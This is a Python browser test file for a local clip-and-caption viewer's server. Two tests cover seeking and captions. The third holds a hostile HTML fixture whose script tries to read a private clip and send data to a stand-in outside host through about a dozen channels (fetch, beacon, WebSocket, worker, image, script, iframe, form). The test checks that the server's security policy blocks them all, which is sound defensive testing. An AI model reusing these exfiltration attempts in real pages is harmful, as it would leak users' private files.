"""Pages, clips and captions over `seehear view`'s server, in a real browser."""

import json
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer

from commands import export
from running import running
from seehear.pages.server import open_server
from seehear.parsing.clip import ParsedEvent

from .made import clip, parsed, until, with_index, with_page

PLAYER = "document.querySelector('video')"


@contextmanager
def served(place):
    with running(open_server(place)) as server:
        yield server.address


def test_a_clip_outside_of_the_folder_plays_and_seeks(browser_page, tmp_path):
    """Long enough that the browser asks for its end before it has come to it."""
    file = clip(tmp_path / "my clips", "a <b>#1", seconds=120.0, fps=5)
    with_page(parsed(file, duration=120.0), tmp_path / "pages")
    with_index(tmp_path / "pages")
    with served(tmp_path / "pages") as address:
        browser_page.goto(address)
        browser_page.click(".title a")
        browser_page.wait_for_url("**/a*")
        until(browser_page, f"{PLAYER}.readyState >= 1")
        for moment in (110, 5, 60):
            browser_page.evaluate(f"location.hash = '#t={moment}'")
            until(browser_page, f"Math.abs({PLAYER}.currentTime - {moment}) < 0.1 && {PLAYER}.readyState >= 2")
        browser_page.click("#play")
        until(browser_page, f"{PLAYER}.currentTime > 60.3")


def test_captions_show_while_the_clip_plays(browser_page, tmp_path):
    """A player of nothing but the clip and its exported captions."""
    label = "A & B <c> 犬"
    events = [ParsedEvent("Dog", "audio", 1.0, 3.0, 0.9), ParsedEvent(label, "visual", 2.0, 5.0, 0.8)]
    file = clip(tmp_path / "shown", "yard")
    with_page(parsed(file, events), tmp_path / "pages")
    export([tmp_path / "pages"], out=tmp_path / "shown", formats=["webvtt"])
    (tmp_path / "shown" / "player.html").write_text(
        '<link rel="icon" href="data:,"><video src="yard.mp4"></video><script>'
        'const track = document.createElement("track");'
        'Object.assign(track, {kind: "captions", src: "yard.vtt", default: true});'
        f"{PLAYER}.append(track);</script>"
    )
    with served(tmp_path / "shown") as address:
        browser_page.goto(f"{address}player.html")
        until(
            browser_page,
            "document.querySelector('track').readyState === 2 && document.querySelector('video').readyState >= 1",
        )
        expected = {
            0.5: [],
            1.5: ["heard: Dog"],
            2.5: ["heard: Dog", f"seen: {label}"],
            4.5: [f"seen: {label}"],
            5.5: [],
        }
        for moment, captions in expected.items():
            browser_page.evaluate(f"{PLAYER}.currentTime = {moment}")
            shown = f"[...{PLAYER}.textTracks[0].activeCues].map((cue) => cue.getCueAsHTML().textContent)"
            until(browser_page, f"{PLAYER}.currentTime === {moment} && {shown}.length === {len(captions)}")
            assert sorted(browser_page.evaluate(shown)) == captions


SENT = """<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><script>
const tried = [], blocked = [], there = "ELSEWHERE";
document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
const attempt = (what) => { tried.push(1); try { what(); } catch (error) { /* refused at once */ } };
const add = (tag, facts) => document.documentElement.append(Object.assign(document.createElement(tag), facts));
attempt(() => fetch("/private/diary.mp4").catch(() => {}));
attempt(() => fetch(there + "?fetched", {mode: "no-cors"}).catch(() => {}));
attempt(() => navigator.sendBeacon(there + "?beacon", "secret"));
attempt(() => new WebSocket(there.replace("http", "ws") + "?socket"));
attempt(() => new EventSource(there + "?events"));
attempt(() => new Worker(there + "?worker"));
attempt(() => add("img", {src: there + "?image"}));
attempt(() => add("video", {src: there + "?video"}));
attempt(() => add("script", {src: there + "?script"}));
attempt(() => add("link", {rel: "stylesheet", href: there + "?style"}));
attempt(() => add("iframe", {src: there + "?frame"}));
attempt(() => { add("form", {action: there + "?form", id: "sent"}); document.getElementById("sent").submit(); });
</script>"""


def test_a_page_that_someone_sent_can_neither_read_clips_nor_send_anything(browser, tmp_path):
    """Such a page runs its script, but the clips elsewhere that the server plays stay on this computer."""
    file = clip(tmp_path / "private", "diary")
    with_page(parsed(file), tmp_path / "pages")
    asked = []

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    with HTTPServer(("127.0.0.1", 0), Elsewhere) as elsewhere, served(tmp_path / "pages") as address:
        threading.Thread(target=elsewhere.serve_forever, args=(0.01,), daemon=True).start()
        there = f"http://127.0.0.1:{elsewhere.server_port}/"
        (tmp_path / "pages" / "sent.html").write_text(SENT.replace("ELSEWHERE", there))
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"{address}sent.html", wait_until="commit")
        kinds = ["connect-src", "img-src", "script-src-elem", "style-src-elem", "form-action", "media-src"]
        all_told = f"{json.dumps(kinds)}.every(kind => blocked.includes(kind))"  # the browser tells them one by one
        until(page, f"typeof tried === 'object' && tried.length === 12 && {all_told}")
        context.close()
        elsewhere.shutdown()
    assert asked == []
